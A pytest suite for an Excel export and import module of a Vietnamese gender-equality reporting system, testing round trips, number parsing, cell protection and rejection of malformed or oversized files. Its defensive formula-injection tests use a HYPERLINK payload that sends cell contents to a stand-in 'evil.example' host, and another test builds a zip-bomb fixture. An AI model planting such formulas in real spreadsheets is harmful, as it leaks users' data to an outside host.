"""The report workbook: written from a FormSpec, filled in as a user would, read back or refused.

No database: the FormSpec is built here by hand.
"""

from __future__ import annotations

import dataclasses
import io
import random
import re
import zipfile
from decimal import Decimal

import pytest
from django.utils.translation import override
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from openpyxl.utils import get_column_letter, range_boundaries
from openpyxl.worksheet.worksheet import Worksheet

from binhdang.reporting.spec import TOTAL, Dim, Element, FormSpec, Option, Section, Value, Values, make_key
from binhdang.reporting.values import CellValueError, parse_input
from binhdang.reporting.xlsx import CellError, XlsxImportError, read_report_xlsx, safe_text, write_report_xlsx
from binhdang.reporting.xlsx.common import sheet_title
from binhdang.reporting.xlsx.reader import parse_number_text

SEX = Dim("sex", "Giới tính", (Option("M", "Nam"), Option("F", "Nữ")))
AGE = Dim(
    "age_band", "Nhóm tuổi", (Option("LT16", "Dưới 16"), Option("16_59", "16–59"), Option("GE60", "Từ 60"))
)
FUNDING = Dim(
    "funding_source",
    "Nguồn kinh phí",
    (
        Option("CENTRAL", "Trung ương"),
        Option("PROVINCE", "Tỉnh"),
        Option("COMMUNE", "Xã"),
        Option("PRIVATE", "Tư nhân"),
        Option("INTL", "Quốc tế"),
    ),
)
ETHNICITY = Dim(
    "ethnicity",
    "Dân tộc",
    (
        Option("01", "Kinh"),
        Option("02", "Tày"),
        Option("03", "Thái"),
        Option("04", "Mường"),
        Option("05", "Khmer"),
        Option("06", "Nùng"),
    ),
)

COUNT = Element("LEADERS", "Số cán bộ nữ giữ chức vụ lãnh đạo", "integer", unit="người")
BY_SEX = Element("TRAINED", "Số người được tập huấn về bình đẳng giới", "integer", unit="người", dims=(SEX,))
BY_SEX_AGE = Element(
    "VICTIMS",
    "Số nạn nhân bạo lực gia đình",
    "integer",
    unit="người",
    dims=(SEX, AGE),
    help_text="Tính theo số vụ việc đã được xác minh",
)
BUDGET = Element("BUDGET", "Kinh phí thực hiện", "money", unit="nghìn đồng", dims=(FUNDING,))
SHARE = Element("SHARE", "Tỷ lệ nữ đại biểu Hội đồng nhân dân", "percent", unit="%")
HAS_PLAN = Element("HAS_PLAN", "Đã ban hành kế hoạch năm", "boolean")
NOTE = Element("NOTE", "Ghi chú, kiến nghị", "text")
BY_ETHNICITY = Element(
    "POOR", "Số hộ nghèo do phụ nữ làm chủ hộ", "integer", unit="hộ", dims=(SEX, ETHNICITY)
)
RATIO = Element("SRB", "Tỷ số giới tính khi sinh", "decimal", unit="bé trai/100 bé gái")

SPEC = FormSpec(
    template_code="BD-BC01",
    template_version=2,
    period_code="2025",
    unit_code="19045",
    unit_name="UBND xã Đại Phúc",
    title="Báo cáo kết quả thực hiện mục tiêu quốc gia về bình đẳng giới năm 2025",
    sections=(
        Section(
            "1", "Lãnh đạo, quản lý và nguồn lực", (COUNT, BY_SEX, BY_SEX_AGE, BUDGET, SHARE, HAS_PLAN, NOTE)
        ),
        Section("2", "Kinh tế, lao động và dân tộc thiểu số", (BY_ETHNICITY, RATIO)),
    ),
)
ELEMENTS = [element for section in SPEC.sections for element in section.elements]

# The writer's hidden codes tell the reader where things are; the tests instead find cells the way a
# user does, by the visible (English) labels.
TOTAL_LABEL = "Total"


def write(values: Values | None = None, spec: FormSpec = SPEC) -> bytes:
    with override("en"):
        return write_report_xlsx(spec, values or {})


def read(data: bytes, spec: FormSpec = SPEC, **kwargs: int) -> Values:
    with override("en"):
        return read_report_xlsx(data, spec, **kwargs)


def errors_of(data: bytes, spec: FormSpec = SPEC, **kwargs: int) -> list[CellError]:
    with pytest.raises(XlsxImportError) as raised:
        read(data, spec, **kwargs)
    assert raised.value.errors, "an XlsxImportError always lists its problems"
    return raised.value.errors


def section_sheet(workbook, number: str) -> Worksheet:
    return next(sheet for sheet in workbook.worksheets if sheet.title.startswith(f"{number}. "))


def value_cell(
    sheet: Worksheet, element: Element, row_label: str = TOTAL_LABEL, column_label: str = ""
) -> Cell:
    """The cell of ``element`` on the row labelled ``row_label`` under the header ``column_label``."""
    start = next(
        row for row in range(1, sheet.max_row + 1) if sheet.cell(row, 2).value == _shown_label(element)
    )
    header = None
    row = start + 1
    while sheet.cell(row, 2).value is not None:
        if column_label and header is None and column_label in _row_texts(sheet, row):
            header = row
        if sheet.cell(row, 2).value == row_label and (header is not None or not column_label):
            if not column_label:
                return sheet.cell(row, 3)
            column = next(
                c for c in range(3, sheet.max_column + 1) if sheet.cell(header, c).value == column_label
            )
            return sheet.cell(row, column)
        row += 1
    raise LookupError(f"{element.code}: no cell at {row_label!r} × {column_label!r}")


def _shown_label(element: Element) -> str:
    return f"{element.label} ({element.unit})" if element.unit else element.label


def _row_texts(sheet: Worksheet, row: int) -> list[object]:
    return [sheet.cell(row, column).value for column in range(3, sheet.max_column + 1)]


def edit(data: bytes, change) -> bytes:
    """Open the workbook as a user's spreadsheet program would, let ``change`` edit it, save."""
    workbook = load_workbook(io.BytesIO(data))
    change(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def type_into(data: bytes, entries: list[tuple[str, Element, str, str, object]]) -> bytes:
    """Type values into cells found by (section, element, row label, column label)."""

    def change(workbook) -> None:
        for number, element, row_label, column_label, value in entries:
            cell = value_cell(section_sheet(workbook, number), element, row_label, column_label)
            assert cell.protection.locked is False, f"{cell.coordinate} should be open for typing"
            cell.value = value

    return edit(data, change)


# --- Round trip ------------------------------------------------------------------------------------

TEXTS = st.text(
    alphabet=st.characters(exclude_categories=("Cc", "Cs", "Cn"), include_characters="\n"),
    min_size=1,
    max_size=60,
)
TRICKY_TEXTS = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "+84 912 345 678",
        "-5 người so với năm trước",
        "@SUM(A1:A9)",
        "Phụ nữ dân tộc thiểu số được hỗ trợ vay vốn ưu đãi",
        "'trích dẫn",
        "=1+2",
    ]
)


def value_strategy(element: Element) -> st.SearchStrategy[Value]:
    if element.value_type == "integer":
        return st.integers(min_value=0, max_value=10**12).map(Decimal)
    if element.value_type == "money":
        return st.decimals(min_value=0, max_value=10**11, places=2)
    if element.value_type == "percent":
        return st.decimals(min_value=0, max_value=100, places=2)
    if element.value_type == "decimal":
        return st.decimals(min_value=-(10**9), max_value=10**9, places=3)
    if element.value_type == "boolean":
        return st.booleans()
    prefixed = st.tuples(st.sampled_from(["=", "+", "-", "@", ""]), TEXTS).map("".join)
    return st.one_of(TRICKY_TEXTS, prefixed).map(str.strip).filter(bool)


def values_strategy(spec: FormSpec) -> st.SearchStrategy[Values]:
    optional = {}
    for section in spec.sections:
        for element in section.elements:
            keys = element.keys() if element.is_numeric else [TOTAL]
            for key in keys:
                optional[(element.code, key)] = value_strategy(element)
    return st.fixed_dictionaries({}, optional=optional)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(values=values_strategy(SPEC))
def test_round_trip_returns_exactly_the_values_written(values: Values) -> None:
    assert read(write(values)) == values


def test_round_trip_of_an_empty_report_is_empty() -> None:
    assert read(write({})) == {}


def test_values_come_back_with_their_types() -> None:
    values: Values = {
        ("LEADERS", TOTAL): Decimal("12"),
        ("BUDGET", make_key(funding_source="INTL")): Decimal("1234567.25"),
        ("SHARE", TOTAL): Decimal("33.33"),
        ("HAS_PLAN", TOTAL): False,
        ("NOTE", TOTAL): "Đã tổ chức 3 hội nghị",
    }
    result = read(write(values))
    assert result == values
    assert isinstance(result[("HAS_PLAN", TOTAL)], bool)
    assert all(isinstance(result[key], Decimal) for key in values if key[0] in ("LEADERS", "BUDGET", "SHARE"))


# --- Filling in the workbook as a user would ---------------------------------------------------------


def test_values_typed_into_the_open_cells_are_read_back() -> None:
    def change(workbook) -> None:
        one, two = section_sheet(workbook, "1"), section_sheet(workbook, "2")
        value_cell(one, COUNT).value = 7
        value_cell(one, BY_SEX, "Figures", "Nam").value = "1.234"  # Vietnamese thousands dot
        value_cell(one, BY_SEX, "Figures", "Nữ").value = 12.0
        value_cell(one, BY_SEX, "Figures", TOTAL_LABEL).value = "  1246 "
        value_cell(one, BY_SEX_AGE, "Từ 60", "Nữ").value = 5
        value_cell(one, BY_SEX_AGE, "Dưới 16", "Nam").value = "3"
        value_cell(one, BY_SEX_AGE, "Dưới 16", TOTAL_LABEL).value = 30  # the total of the whole table
        value_cell(one, BUDGET, "Figures", "Tỉnh").value = "1.234.567,5"
        value_cell(one, BUDGET, "Figures", "Quốc tế").value = 2500000.75
        value_cell(one, BUDGET, "Figures", "Xã").value = "12,5"
        share = value_cell(one, SHARE)
        share.value = 0.455  # typed as 45.5% in Excel: a fraction shown as a percentage
        share.number_format = "0.0%"
        value_cell(one, HAS_PLAN, "Answer").value = "Không"
        value_cell(one, NOTE, "Content").value = "  Đã ban hành Kế hoạch số 12/KH-UBND  "
        value_cell(two, BY_ETHNICITY, "Tày", "Nữ").value = 3
        value_cell(two, BY_ETHNICITY, "Khmer", "Nam").value = "0"
        value_cell(two, RATIO).value = "-1,5"

    assert read(edit(write(), change)) == {
        ("LEADERS", TOTAL): Decimal(7),
        ("TRAINED", make_key(sex="M")): Decimal(1234),
        ("TRAINED", make_key(sex="F")): Decimal(12),
        ("TRAINED", TOTAL): Decimal(1246),
        ("VICTIMS", make_key(sex="F", age_band="GE60")): Decimal(5),
        ("VICTIMS", make_key(sex="M", age_band="LT16")): Decimal(3),
        ("VICTIMS", TOTAL): Decimal(30),
        ("BUDGET", make_key(funding_source="PROVINCE")): Decimal("1234567.5"),
        ("BUDGET", make_key(funding_source="INTL")): Decimal("2500000.75"),
        ("BUDGET", make_key(funding_source="COMMUNE")): Decimal("12.5"),
        ("SHARE", TOTAL): Decimal("45.5"),
        ("HAS_PLAN", TOTAL): False,
        ("NOTE", TOTAL): "Đã ban hành Kế hoạch số 12/KH-UBND",
        ("POOR", make_key(sex="F", ethnicity="02")): Decimal(3),
        ("POOR", make_key(sex="M", ethnicity="05")): Decimal(0),
        ("SRB", TOTAL): Decimal("-1.5"),
    }


def test_a_formula_with_its_saved_result_is_read_as_that_result() -> None:
    data = type_into(write(), [("1", COUNT, TOTAL_LABEL, "", 7)])
    coordinate = coordinate_of(COUNT)
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w") as target:
        for member in source.infolist():
            content = source.read(member)
            if member.filename == "xl/worksheets/sheet2.xml":
                cell = re.search(rf'<c r="{coordinate}"[^>]*><v>7</v></c>'.encode(), content)
                assert cell is not None
                content = content.replace(cell.group(), cell.group().replace(b"<v>", b"<f>3+4</f><v>"))
            target.writestr(member, content)
    assert read(buffer.getvalue()) == {("LEADERS", TOTAL): Decimal(7)}


def test_a_workbook_written_in_vietnamese_reads_back_in_any_language() -> None:
    values: Values = {("HAS_PLAN", TOTAL): True, ("LEADERS", TOTAL): Decimal(3)}
    with override("vi"):
        data = write_report_xlsx(SPEC, values)
    assert read(data) == values


@pytest.mark.parametrize(
    ("typed", "expected"),
    [("Có", True), ("có", True), ("x", True), ("Yes", True), ("TRUE", True), (1, True), (True, True)]
    + [("Không", False), ("khong", False), ("no", False), ("false", False), (0, False), (False, False)],
)
def test_yes_and_no_are_understood_in_their_usual_spellings(typed: object, expected: bool) -> None:
    data = type_into(write(), [("1", HAS_PLAN, "Answer", "", typed)])
    assert read(data) == {("HAS_PLAN", TOTAL): expected}


@pytest.mark.parametrize(
    ("typed", "expected"),
    [("45%", "45"), ("45,5 %", "45.5"), ("100", "100"), (0, "0"), (62.5, "62.5"), ("0,45", "0.45")],
)
def test_percentages(typed: object, expected: str) -> None:
    data = type_into(write(), [("1", SHARE, TOTAL_LABEL, "", typed)])
    assert read(data) == {("SHARE", TOTAL): Decimal(expected)}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("12", "12"),
        ("1.234", "1234"),
        ("1.234.567", "1234567"),
        ("1.234,5", "1234.5"),
        ("1,234.5", "1234.5"),
        ("12,5", "12.5"),
        ("1,234", "1.234"),  # one comma is the decimal mark, as on the web form
        ("1,234,567", "1234567"),
        ("12.5", "12.5"),
        ("0.450", "0.450"),
        ("1 234 567", "1234567"),
        ("-3", "-3"),
        ("mười", None),
        ("12a", None),
        ("1.23.4", None),
        ("", None),
        ("١٢", None),  # digits of other scripts are not numbers here
    ],
)
def test_numbers_typed_as_text(text: str, expected: str | None) -> None:
    assert parse_number_text(text) == (None if expected is None else Decimal(expected))


# The web form and a workbook's text cells read the same text as the same value (binhdang.lib.numbers).
SAME_TEXTS = [
    "1.234",
    "1.234.567",
    "1.234,5",
    "12,5",
    "1,234",
    "1,234.5",
    "1,234,567",
    "12.5",
    "0.450",
    "1 234 567",
    "1\u00a0234,5",
    "\u22125",
    "-1,5",
    "45%",
    "mười",
    "1.23.4",
    ".5",
    "1e3",
]
SAME_ANSWERS = ["Có", "có", "CÓ", "co", "x", "yes", "Y", "true", "1", "đúng", "dung"]
SAME_ANSWERS += ["Không", "khong", "no", "n", "FALSE", "0", "sai", "có lẽ", "maybe", "2"]


def _web(element: Element, text: str) -> Value | None | str:
    try:
        return parse_input(element, text)
    except CellValueError:
        return "refused"


def _excel(number: str, element: Element, text: str) -> Value | None | str:
    row_label = "Answer" if element.value_type == "boolean" else TOTAL_LABEL
    data = type_into(write(), [(number, element, row_label, "", text)])
    try:
        return read(data).get((element.code, TOTAL))
    except XlsxImportError:
        return "refused"


@pytest.mark.parametrize(
    ("number", "element", "text"),
    [("2", RATIO, text) for text in SAME_TEXTS]
    + [("1", SHARE, text) for text in ("45%", "45,5 %", "12,5", "1.234", "100")]
    + [("1", HAS_PLAN, text) for text in SAME_ANSWERS],
)
def test_the_web_form_and_a_workbook_read_text_the_same_way(number: str, element: Element, text: str) -> None:
    web, excel = _web(element, text), _excel(number, element, text)
    assert (excel, str(excel)) == (web, str(web))  # the same value, with the same places


# --- Layout, protection and validation -----------------------------------------------------------------


def expected_open_cells(element: Element) -> int:
    return len(element.keys()) if element.is_numeric else 1


def open_cells(sheet: Worksheet) -> list[Cell]:
    return [
        cell
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell, Cell) and not cell.protection.locked
    ]


def test_sheets_titles_and_hidden_parts() -> None:
    workbook = load_workbook(io.BytesIO(write()))
    assert workbook.sheetnames == [
        "Instructions",
        "1. Lãnh đạo, quản lý và nguồn…",
        "2. Kinh tế, lao động và dân tộ…",
        "_meta",
        "_versions",
    ]
    assert workbook["_meta"].sheet_state == "veryHidden"
    assert workbook["_versions"].sheet_state == "veryHidden"
    assert workbook.security.lockStructure
    instructions = workbook["Instructions"]
    texts = [str(cell.value) for row in instructions.iter_rows() for cell in row if cell.value is not None]
    assert SPEC.title in texts
    assert any("UBND xã Đại Phúc" in text and "19045" in text for text in texts)
    assert "2025" in texts
    assert any("BD-BC01" in text and "2" in text for text in texts)
    for sheet in workbook.worksheets[:3]:
        assert sheet.column_dimensions["A"].hidden
        assert sheet.page_setup.orientation == "landscape"
        assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4)
        assert all(len(title) <= 31 for title in workbook.sheetnames)


def test_only_value_cells_are_open_and_the_sheets_are_protected() -> None:
    workbook = load_workbook(io.BytesIO(write()))
    for section in SPEC.sections:
        sheet = section_sheet(workbook, section.number)
        assert sheet.protection.sheet
        cells = open_cells(sheet)
        assert len(cells) == sum(expected_open_cells(element) for element in section.elements)
        assert all(cell.column >= 3 and cell.fill.fgColor.rgb.endswith("FFFFFF") for cell in cells)
        for row in sheet.iter_rows(max_col=2):
            for cell in row:
                assert cell.protection.locked, f"{cell.coordinate} holds a label or a code and must be locked"
    one = section_sheet(workbook, "1")
    # Only the first row of a table has a total cell; the others are grey and locked.
    assert not value_cell(one, BY_SEX_AGE, "Dưới 16", TOTAL_LABEL).protection.locked
    second_row_total = value_cell(one, BY_SEX_AGE, "16–59", "Nữ").offset(column=1)
    assert second_row_total.protection.locked
    assert second_row_total.fill.fgColor.rgb.endswith("BFBFBF")


def validations_by_cell(sheet: Worksheet) -> dict[str, object]:
    found = {}
    for validation in sheet.data_validations.dataValidation:
        for cell_range in validation.sqref.ranges:
            min_col, min_row, max_col, max_row = range_boundaries(cell_range.coord)
            for row in range(min_row, max_row + 1):
                for column in range(min_col, max_col + 1):
                    assert f"{get_column_letter(column)}{row}" not in found
                    found[f"{get_column_letter(column)}{row}"] = validation
    return found


def test_every_value_cell_is_validated_by_its_type() -> None:
    workbook = load_workbook(io.BytesIO(write()))
    one, two = section_sheet(workbook, "1"), section_sheet(workbook, "2")
    by_cell = validations_by_cell(one) | {f"2!{k}": v for k, v in validations_by_cell(two).items()}
    for cell in open_cells(one):
        assert cell.coordinate in by_cell
    for cell in open_cells(two):
        assert f"2!{cell.coordinate}" in by_cell

    def rule(
        sheet: Worksheet, element: Element, row: str = TOTAL_LABEL, column: str = "", prefix: str = ""
    ) -> tuple:
        validation = by_cell[prefix + value_cell(sheet, element, row, column).coordinate]
        assert validation.showErrorMessage and validation.errorTitle and validation.error
        assert len(validation.errorTitle) <= 32 and len(validation.error) <= 255
        return validation.type, validation.operator, validation.formula1, validation.formula2

    assert rule(one, COUNT) == ("whole", "greaterThanOrEqual", "0", None)
    assert rule(one, BY_SEX_AGE, "Từ 60", "Nam") == ("whole", "greaterThanOrEqual", "0", None)
    assert rule(one, BUDGET, "Figures", "Tư nhân") == ("decimal", "greaterThanOrEqual", "0", None)
    assert rule(one, SHARE) == ("decimal", "between", "0", "100")
    assert rule(one, HAS_PLAN, "Answer") == ("list", None, '"Yes,No"', None)
    assert rule(one, NOTE, "Content")[0] == "textLength"
    assert rule(two, RATIO, prefix="2!")[:2] == ("decimal", "between")
    assert rule(two, BY_ETHNICITY, "Nùng", "Nữ", prefix="2!")[0] == "whole"


def test_the_grid_follows_the_first_dimension_across() -> None:
    sheet = section_sheet(load_workbook(io.BytesIO(write())), "1")
    header = value_cell(sheet, BY_SEX_AGE, "Dưới 16", "Nam").row - 1
    assert _row_texts(sheet, header)[:3] == ["Nam", "Nữ", TOTAL_LABEL]
    labels = [sheet.cell(header + offset, 2).value for offset in (1, 2, 3)]
    assert labels == ["Dưới 16", "16–59", "Từ 60"]
    budget_header = value_cell(sheet, BUDGET, "Figures", "Tỉnh").row - 1
    assert _row_texts(sheet, budget_header)[:6] == [
        "Trung ương",
        "Tỉnh",
        "Xã",
        "Tư nhân",
        "Quốc tế",
        TOTAL_LABEL,
    ]


def test_long_and_forbidden_sheet_titles_are_made_valid_and_unique() -> None:
    taken: set[str] = set()
    first = sheet_title("1. Giới/bình đẳng: [tổng hợp]*? và nhiều thứ khác nữa", taken)
    second = sheet_title("1. Giới/bình đẳng: [tổng hợp]*? và nhiều thứ khác nữa", taken)
    for title in (first, second):
        assert len(title) <= 31
        assert not set(title) & set("[]:*?/\\")
    assert first != second


# --- Formula injection ------------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Xem chi tiết")'


def test_text_that_looks_like_a_formula_is_stored_as_text() -> None:
    spec = dataclasses.replace(
        SPEC,
        unit_name="+UBND xã",
        title="@Báo cáo",
        sections=(
            Section(
                "1",
                "Ghi chú",
                (dataclasses.replace(NOTE, label=EVIL), dataclasses.replace(COUNT, help_text="=1+1")),
            ),
            SPEC.sections[1],
        ),
    )
    data = write({("NOTE", TOTAL): EVIL}, spec)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = load_workbook(io.BytesIO(data))
    texts = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in texts)
    risky = [cell for cell in texts if isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@")]
    assert {cell.value for cell in risky} >= {EVIL, "+UBND xã (code 19045)", "@Báo cáo", "=1+1"}
    for cell in risky:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    assert read(data, spec) == {("NOTE", TOTAL): EVIL}


def test_safe_text_writes_plain_strings() -> None:
    workbook = load_workbook(io.BytesIO(write()))
    cell = workbook.worksheets[0]["Z1"]
    safe_text(cell, "=SUM(1,2)")
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=SUM(1,2)", "s", True)
    safe_text(cell, "Bình thường\x07")
    assert (cell.value, cell.data_type) == ("Bình thường", "s")


# --- Malformed files ------------------------------------------------------------------------------


def messages(errors: list[CellError]) -> list[str]:
    with override("en"):
        return [str(error) for error in errors]


def one_error(data: bytes, spec: FormSpec = SPEC, **kwargs: int) -> CellError:
    errors = errors_of(data, spec, **kwargs)
    assert len(errors) == 1, messages(errors)
    return errors[0]


def sheet_one_title() -> str:
    return load_workbook(io.BytesIO(write())).worksheets[1].title


def coordinate_of(
    element: Element, row_label: str = TOTAL_LABEL, column_label: str = "", number: str = "1"
) -> str:
    workbook = load_workbook(io.BytesIO(write()))
    return value_cell(section_sheet(workbook, number), element, row_label, column_label).coordinate


@pytest.mark.parametrize(
    ("element", "row", "column", "typed", "fragment"),
    [
        (COUNT, TOTAL_LABEL, "", "mười", "'mười' is not a number."),
        (COUNT, TOTAL_LABEL, "", -3, "'-3' is negative"),
        (BY_SEX, "Figures", "Nữ", "-3", "'-3' is negative"),
        (BY_SEX_AGE, "16–59", "Nam", 12.5, "'12.5' is not a whole number."),
        (BY_SEX_AGE, "16–59", "Nam", "12,5", "'12,5' is not a whole number."),
        (BUDGET, "Figures", "Xã", "-1.000", "'-1.000' is negative"),
        (BUDGET, "Figures", "Xã", "năm triệu", "is not a number"),
        (SHARE, TOTAL_LABEL, "", 150, "'150' is not a percentage between 0 and 100."),
        (SHARE, TOTAL_LABEL, "", "-1%", "is not a percentage between 0 and 100."),
        (HAS_PLAN, "Answer", "", "có lẽ", "“có lẽ” is not Yes or No."),
        (NOTE, "Content", "", "x" * 10_001, "at most 10000"),
        (COUNT, TOTAL_LABEL, "", "#DIV/0!", "Excel error #DIV/0!"),
        (COUNT, TOTAL_LABEL, "", "=1+2", "contains a formula without a value; type the number."),
        (BY_SEX, "Figures", "Nam", "=SUM(C1:C3)", "contains a formula without a value"),
    ],
)
def test_a_bad_value_is_reported_with_its_sheet_and_cell(
    element: Element, row: str, column: str, typed: object, fragment: str
) -> None:
    data = type_into(write(), [("1", element, row, column, typed)])
    error = one_error(data)
    assert (error.sheet, error.cell) == (sheet_one_title(), coordinate_of(element, row, column))
    assert fragment in messages([error])[0]
    assert messages([error])[0].startswith(f"{sheet_one_title()}!{error.cell}: ")


@pytest.mark.parametrize(
    ("change", "fragment"),
    [
        ({"unit_code": "19046"}, "unit 19045 instead of 19046"),
        ({"period_code": "2026"}, "period 2025 instead of 2026"),
        ({"template_version": 3}, "form BD-BC01 version 2 instead of BD-BC01 version 3"),
        ({"template_code": "BD-BC02"}, "form BD-BC01 version 2 instead of BD-BC02 version 2"),
    ],
)
def test_a_workbook_of_another_report_is_refused_with_one_clear_error(change: dict, fragment: str) -> None:
    data = type_into(write(), [("1", COUNT, TOTAL_LABEL, "", "mười")])
    error = one_error(data, dataclasses.replace(SPEC, **change))
    assert fragment in messages([error])[0]
    assert "another report" in messages([error])[0]


def test_a_workbook_of_another_unit_and_period_names_both() -> None:
    error = one_error(write(), dataclasses.replace(SPEC, unit_code="19046", period_code="2026"))
    assert "unit 19045 instead of 19046" in messages([error])[0]
    assert "period 2025 instead of 2026" in messages([error])[0]


def test_a_workbook_without_the_hidden_codes_is_refused() -> None:
    def change(workbook) -> None:
        del workbook["_meta"]

    assert "hidden codes are missing" in messages([one_error(edit(write(), change))])[0]


def test_a_missing_section_sheet_is_reported() -> None:
    def change(workbook) -> None:
        del workbook[workbook.sheetnames[2]]

    error = one_error(edit(write(), change))
    assert error.sheet == "2. Kinh tế, lao động và dân tộ…"
    assert "The sheet of section 2 is missing" in messages([error])[0]


def test_an_extra_sheet_is_reported() -> None:
    def change(workbook) -> None:
        workbook.create_sheet("Nháp")["A1"] = 42

    error = one_error(edit(write(), change))
    assert (error.sheet, error.cell) == ("Nháp", "")
    assert "not part of the form" in messages([error])[0]


def test_a_renamed_sheet_is_still_read() -> None:
    def change(workbook) -> None:
        workbook.worksheets[1].title = "Phần 1"
        value_cell(workbook["Phần 1"], COUNT).value = 4

    assert read(edit(write(), change)) == {("LEADERS", TOTAL): Decimal(4)}


def test_a_row_with_an_unknown_code_is_reported() -> None:
    def change(workbook) -> None:
        sheet = section_sheet(workbook, "1")
        row = value_cell(sheet, COUNT).row
        sheet.cell(row, 1).value = '{"c":["*"],"d":"","e":"NO_SUCH","k":{}}'

    errors = errors_of(edit(write(), change))
    texts = messages(errors)
    code_cell = "A" + coordinate_of(COUNT)[1:]
    assert len(errors) == 2, texts
    assert errors[0].cell == code_cell and "hidden code of this row is not part of the form" in texts[0]
    assert errors[1].cell == "" and f"Rows of “{COUNT.label}” are missing" in texts[1]


def test_a_value_in_a_grey_cell_is_reported() -> None:
    def change(workbook) -> None:
        value_cell(section_sheet(workbook, "1"), BY_SEX_AGE, "Từ 60", "Nữ").offset(column=1).value = 9

    error = one_error(edit(write(), change))
    assert "not part of the form; leave it empty" in messages([error])[0]


def test_random_bytes_are_not_a_workbook() -> None:
    data = random.Random(7).randbytes(5000)
    error = one_error(data)
    assert messages([error]) == ["The file is not an Excel .xlsx workbook."]


def test_a_zip_that_is_not_a_workbook_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("bao-cao.txt", "Báo cáo")
    assert messages([one_error(buffer.getvalue())]) == ["The file is not an Excel .xlsx workbook."]


def test_a_damaged_workbook_is_refused() -> None:
    data = bytearray(write())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        member = archive.getinfo("xl/worksheets/sheet2.xml")
    start = member.header_offset + 30 + len(member.filename.encode()) + len(member.extra)
    data[start : start + 200] = bytes(200)  # the compressed sheet, overwritten
    assert messages([one_error(bytes(data))]) == ["The file is not an Excel .xlsx workbook."]


def test_an_oversized_file_is_refused_before_it_is_opened() -> None:
    data = write()
    assert "too large" in messages([one_error(data, max_bytes=len(data) - 1)])[0]
    assert read(data, max_bytes=len(data)) == {}


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", bytes(11 * 1024 * 1024))  # 11 MiB of zeros
    data = buffer.getvalue()
    assert len(data) < 100_000
    assert "unpacks to far more data" in messages([one_error(data)])[0]


def test_a_zip_with_too_many_entries_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(10_001):
            archive.writestr(f"x/{number}", b"")
    assert "unpacks to far more data" in messages([one_error(buffer.getvalue())])[0]


def test_every_problem_of_a_file_is_reported_together() -> None:
    data = type_into(
        write(),
        [
            ("1", COUNT, TOTAL_LABEL, "", "mười"),
            ("1", BY_SEX, "Figures", "Nam", -4),
            ("1", BY_SEX_AGE, "Từ 60", "Nữ", 2.5),
            ("1", SHARE, TOTAL_LABEL, "", 150),
            ("1", HAS_PLAN, "Answer", "", "không biết"),
            ("2", BY_ETHNICITY, "Khmer", "Nam", "=A1*2"),
            ("2", BY_ETHNICITY, "Kinh", "Nữ", 8),  # a good value is not returned either
        ],
    )
    data = edit(data, lambda workbook: workbook.create_sheet("Tính nháp"))
    errors = errors_of(data)
    cells = {(error.sheet, error.cell) for error in errors}
    one, two = sheet_one_title(), load_workbook(io.BytesIO(write())).worksheets[2].title
    assert cells == {
        (one, coordinate_of(COUNT)),
        (one, coordinate_of(BY_SEX, "Figures", "Nam")),
        (one, coordinate_of(BY_SEX_AGE, "Từ 60", "Nữ")),
        (one, coordinate_of(SHARE)),
        (one, coordinate_of(HAS_PLAN, "Answer")),
        (two, coordinate_of(BY_ETHNICITY, "Khmer", "Nam", number="2")),
        ("Tính nháp", ""),
    }
    assert len(errors) == 7


def test_error_messages_read_as_sheet_cell_message() -> None:
    assert str(CellError("Trang 1", "C12", "lỗi")) == "Trang 1!C12: lỗi"
    assert str(CellError("Trang 1", "", "lỗi")) == "Trang 1: lỗi"
    assert str(CellError("", "", "lỗi")) == "lỗi"
    assert str(XlsxImportError([CellError("A", "B1", "x"), CellError("", "", "y")])) == "A!B1: x\ny"
